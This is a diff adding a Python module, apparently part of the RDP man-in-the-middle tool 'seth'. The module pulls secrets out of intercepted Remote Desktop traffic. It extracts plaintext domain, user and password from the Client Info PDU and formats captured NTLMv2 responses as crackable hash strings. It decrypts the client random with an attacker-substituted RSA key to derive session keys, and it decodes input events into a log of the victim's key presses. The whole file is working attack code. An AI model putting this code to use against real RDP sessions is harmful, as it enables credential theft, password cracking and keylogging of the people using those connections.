@@ -0,0 +1,297 @@
+"""
+Everything the sniffer finds in PDUs: credentials, NTLMv2 hashes, the
+server's certificate, the client random and key presses
+"""
+
+import struct
+from binascii import hexlify
+
+from seth.crypto import RSAKey, generate_session_keys, rsa_decrypt
+
+# http://www.millisecond.com/support/docs/v5/html/language/scancodes.htm
+SCANCODE = {
+    0: None,
+    1: "ESC", 2: "1", 3: "2", 4: "3", 5: "4", 6: "5", 7: "6", 8: "7", 9:
+    "8", 10: "9", 11: "0", 12: "-", 13: "=", 14: "Backspace", 15: "Tab", 16: "Q",
+    17: "W", 18: "E", 19: "R", 20: "T", 21: "Y", 22: "U", 23: "I", 24: "O",
+    25: "P", 26: "[", 27: "]", 28: "Enter", 29: "CTRL", 30: "A", 31: "S",
+    32: "D", 33: "F", 34: "G", 35: "H", 36: "J", 37: "K", 38: "L", 39: ";",
+    40: "'", 41: "`", 42: "LShift", 43: "\\", 44: "Z", 45: "X", 46: "C", 47:
+    "V", 48: "B", 49: "N", 50: "M", 51: ",", 52: ".", 53: "/", 54: "RShift",
+    55: "PrtSc", 56: "Alt", 57: "Space", 58: "Caps", 59: "F1", 60: "F2", 61:
+    "F3", 62: "F4", 63: "F5", 64: "F6", 65: "F7", 66: "F8", 67: "F9", 68:
+    "F10", 69: "Num", 70: "Scroll", 71: "Home (7)", 72: "Up (8)", 73:
+    "PgUp (9)", 74: "-", 75: "Left (4)", 76: "Center (5)", 77: "Right (6)",
+    78: "+", 79: "End (1)", 80: "Down (2)", 81: "PgDn (3)", 82: "Ins", 83:
+    "Del",
+}
+# Keys sent with KBDFLAGS_EXTENDED, i.e. prefixed with 0xe0
+EXTENDED_SCANCODE = {
+    28: "Enter (keypad)", 29: "RCTRL", 53: "/ (keypad)", 55: "PrtSc",
+    56: "AltGr", 71: "Home", 72: "Up", 73: "PgUp", 75: "Left", 77: "Right",
+    79: "End", 80: "Down", 81: "PgDn", 82: "Ins", 83: "Del", 91: "LWin",
+    92: "RWin", 93: "Menu",
+}
+# Keys that differ from the US layout, by language ID of the keyboard layout
+LAYOUT_SCANCODE = {
+    # German
+    0x0407: {
+        12: "ß", 13: "´", 21: "Z", 26: "Ü", 27: "+", 39: "Ö", 40: "Ä",
+        41: "^", 43: "#", 44: "Y", 53: "-", 86: "<",
+    },
+    # French
+    0x040c: {
+        2: "&", 3: "é", 4: "\"", 5: "'", 6: "(", 7: "-", 8: "è", 9: "_",
+        10: "ç", 11: "à", 12: ")", 16: "A", 17: "Z", 26: "^", 27: "$",
+        30: "Q", 39: "M", 40: "ù", 41: "²", 43: "*", 44: "W", 50: ",",
+        51: ";", 52: ":", 53: "!", 86: "<",
+    },
+    # British
+    0x0809: {40: "'", 41: "`", 43: "#", 86: "\\"},
+}
+# 256-entry tables of key names, built once per layout by keymap()
+KEYMAPS = {}
+EXTENDED_KEYMAP = [EXTENDED_SCANCODE.get(i) for i in range(256)]
+
+# Fast-path input event codes, Ch. 2.2.8.1.2.2
+INPUT_SCANCODE = 0
+INPUT_MOUSE = 1
+INPUT_MOUSEX = 2
+INPUT_SYNC = 3
+INPUT_UNICODE = 4
+INPUT_RELATIVE_MOUSE = 5
+INPUT_QOE_TIMESTAMP = 6
+KBDFLAGS_RELEASE = 0x01
+KBDFLAGS_EXTENDED = 0x02
+
+
+def substr(s, offset, count):
+    return s[offset:offset+count]
+
+
+def extract_ntlmv2(session, bytes, offset):
+    # References:
+    #  - [MS-NLMP].pdf
+    #  - https://www.root9b.com/sites/default/files/whitepapers/R9B_blog_003_whitepaper_01.pdf
+    keys = ["lmstruct", "ntstruct", "domain", "user", "workstation",
+            "encryption_key"]
+    fields = [bytes[offset+i*8:offset+(i+1)*8] for i in range(len(keys))]
+    field_offsets = [struct.unpack('<I', x[4:])[0] for x in fields]
+    field_lens = [struct.unpack('<H', x[:2])[0] for x in fields]
+    payload = bytes[offset+76:]
+
+    values = {}
+    for i,length in enumerate(field_lens):
+        thisoffset = offset - 12 + field_offsets[i]
+        values[keys[i]] = bytes[thisoffset:thisoffset+length]
+
+    session.nt_response = values["ntstruct"][:16]
+    jtr_string = values["ntstruct"][16:]
+
+    if session.server_challenge is None:
+        session.server_challenge = b"SERVER_CHALLENGE_MISSING"
+
+    result = b"%s::%s:%s:%s:%s" % (
+                 values["user"].decode('utf-16').encode(),
+                 values["domain"].decode('utf-16').encode(),
+                 hexlify(session.server_challenge),
+                 hexlify(session.nt_response),
+                 hexlify(jtr_string),
+         )
+
+    return result
+
+
+def extract_server_challenge(session, bytes, offset):
+    offset += 12
+    session.server_challenge = bytes[offset:offset+8]
+    return b"Server challenge: " + hexlify(session.server_challenge)
+
+
+def extract_server_cert(session, bytes, offset):
+    # Reference: [MS-RDPBCGR].pdf from 2010, v20100305
+    size = struct.unpack('<H', substr(bytes, offset, 2))[0]
+    encryption_method, encryption_level, server_random_len, server_cert_len = (
+        struct.unpack('<IIII', substr(bytes, offset+2, 16))
+    )
+    server_random = substr(bytes, offset+18, server_random_len)
+    server_cert = substr(bytes, offset+18+server_random_len,
+                         server_cert_len)
+
+    #  cert_version = struct.unpack('<I', server_cert[:4])[0]
+        # 1 = Proprietary
+        # 2 = x509
+        # TODO ignore right most bit
+
+    dwVersion, dwSigAlg, dwKeyAlg = struct.unpack('<III',
+                                                  substr(server_cert, 0, 12))
+
+    pubkey_type, pubkey_len = struct.unpack('<HH', substr(server_cert, 12, 4))
+    pubkey = substr(server_cert, 16, pubkey_len)
+    assert pubkey[:4] == b"RSA1"
+
+    sign_type = struct.unpack('<H', substr(server_cert, 16+pubkey_len, 2))[0]
+    sign_len = struct.unpack('<H', substr(server_cert, 18+pubkey_len, 2))[0]
+    sign = substr(server_cert, 20+pubkey_len, sign_len)
+
+    key_len, bit_len = struct.unpack('<II', substr(pubkey, 4, 8))
+    assert bit_len == key_len * 8 - 64
+    data_len, pub_exp = struct.unpack('<II', substr(pubkey, 12, 8))
+    modulus = substr(pubkey, 20, key_len)
+
+    first5fields = struct.pack("<IIIHH",
+                    dwVersion,
+                    dwSigAlg,
+                    dwKeyAlg,
+                    pubkey_type,
+                    pubkey_len )
+    crypto = session.crypto
+    crypto.update({"modulus": modulus,
+             "pub_exponent": pub_exp,
+             "data_len": data_len,
+             "server_rand": server_random, # little endian
+             "sign": sign,
+             "first5fields": first5fields,
+             "pubkey_blob": pubkey,
+             "client_rand": b"",
+    })
+    crypto["pubkey"] = RSAKey(int.from_bytes(modulus, "little"), pub_exp)
+    #  print(crypto)
+
+    return (b"Server cert modulus: " + hexlify(modulus) +
+            b"\nSignature: " + hexlify(sign) +
+            b"\nServer random: " + hexlify(server_random) )
+
+
+def extract_client_random(session, bytes, offset):
+    crypto = session.crypto
+    client_rand = bytes[offset+4:]
+    crypto["enc_client_rand"] = client_rand
+    if "mykey" in crypto:
+        client_rand = rsa_decrypt(client_rand, crypto["mykey"])
+    elif "known_client_rand" in crypto:
+        # Replaying a recording, the key the client used is gone
+        client_rand = crypto["known_client_rand"]
+    else:
+        return b"Client random unknown, can't decrypt"
+    crypto["client_rand"] = client_rand
+    generate_session_keys(session)
+    return(b"Client random: " + hexlify(client_rand))
+
+
+def extract_credentials(bytes):
+    # Client Info PDU
+    # "0x0040 MUST be present"
+    domlen, userlen, pwlen = struct.unpack_from('>HHH', bytes, 26)
+    offset = 37
+    if domlen + userlen + pwlen < len(bytes):
+        domain = substr(bytes, offset, domlen).decode("utf-16")
+        user = substr(bytes, offset+domlen+2, userlen).decode("utf-16")
+        pw = substr(bytes, offset+domlen+2+userlen+2, pwlen).decode("utf-16")
+        return (b"%s\\%s:%s" % (domain.encode(), user.encode(), pw.encode()))
+    else:
+        return b""
+
+
+def extract_keyboard_layout(session, bytes, offset):
+    # Input Capability Set, offset points to lengthCapability
+    length = struct.unpack('<H', substr(bytes, offset, 2))[0]
+    offset += 94 - length
+    keyboard_info = session.keyboard_info = {
+        "layout": struct.unpack("<I", substr(bytes, offset, 4))[0],
+        "type": struct.unpack("<I", substr(bytes, offset+4, 4))[0],
+        "subtype": struct.unpack("<I", substr(bytes, offset+8, 4))[0],
+        "funckey": struct.unpack("<I", substr(bytes, offset+12, 4))[0]
+    }
+    return b"Keyboard layout/type/subtype: 0x%x/0x%x/0x%x" % (
+        keyboard_info["layout"],
+        keyboard_info["type"],
+        keyboard_info["subtype"],
+    )
+
+
+def keymap(layout):
+    """Return the table of key names for a keyboard layout, indexed by
+    scancode"""
+    try:
+        return KEYMAPS[layout]
+    except KeyError:
+        pass
+    overrides = LAYOUT_SCANCODE.get(layout & 0xffff, {}) if layout else {}
+    table = [overrides.get(i, SCANCODE.get(i)) for i in range(256)]
+    KEYMAPS[layout] = table
+    return table
+
+
+def decode_input_events(bytes):
+    """Decode all events of a decrypted fast-path input PDU into tuples:
+    (INPUT_SCANCODE, flags, scancode), (INPUT_UNICODE, flags, code point),
+    (INPUT_MOUSE/INPUT_MOUSEX/INPUT_RELATIVE_MOUSE, pointer flags, x, y),
+    (INPUT_SYNC, flags) and (INPUT_QOE_TIMESTAMP, timestamp)"""
+    # Ch. 2.2.8.1.2
+    header = bytes[0]
+    offset = 3 if bytes[1] & 0x80 else 2
+    if header & 0x80:
+        # dataSignature
+        offset += 8
+    count = (header >> 2) & 0x0f
+    end = len(bytes)
+    if count == 0 and offset < end:
+        count = bytes[offset]
+        offset += 1
+    events = []
+    for _ in range(count):
+        if offset >= end:
+            break
+        header = bytes[offset]
+        code = header >> 5
+        if code == INPUT_SCANCODE:
+            if offset + 2 > end: break
+            events.append((code, header & 0x1f, bytes[offset+1]))
+            offset += 2
+        elif code == INPUT_UNICODE:
+            if offset + 3 > end: break
+            events.append((code, header & 0x1f,
+                           bytes[offset+1] | bytes[offset+2] << 8))
+            offset += 3
+        elif code in (INPUT_MOUSE, INPUT_MOUSEX, INPUT_RELATIVE_MOUSE):
+            if offset + 7 > end: break
+            events.append((code,) + struct.unpack_from("<HHH", bytes, offset+1))
+            offset += 7
+        elif code == INPUT_SYNC:
+            events.append((code, header & 0x1f))
+            offset += 1
+        elif code == INPUT_QOE_TIMESTAMP:
+            if offset + 5 > end: break
+            events.append((code,) + struct.unpack_from("<I", bytes, offset+1))
+            offset += 5
+        else:
+            break
+    return events
+
+
+def extract_key_press(session, bytes):
+    keys = keymap(session.keyboard_info and session.keyboard_info["layout"])
+    result = []
+    for event in decode_input_events(bytes):
+        code = event[0]
+        if code == INPUT_SCANCODE:
+            if event[1] & KBDFLAGS_EXTENDED:
+                key = EXTENDED_KEYMAP[event[2]]
+            else:
+                key = keys[event[2]]
+        elif code == INPUT_UNICODE:
+            if 0xd800 <= event[2] < 0xe000:
+                # Half of a surrogate pair
+                key = "U+%04X" % event[2]
+            else:
+                key = chr(event[2])
+        else:
+            continue
+        if not key:
+            continue
+        if event[1] & KBDFLAGS_RELEASE:
+            result.append("Key release:                 %s" % key)
+        else:
+            result.append("Key press:   %s" % key)
+    return "\n".join(result).encode()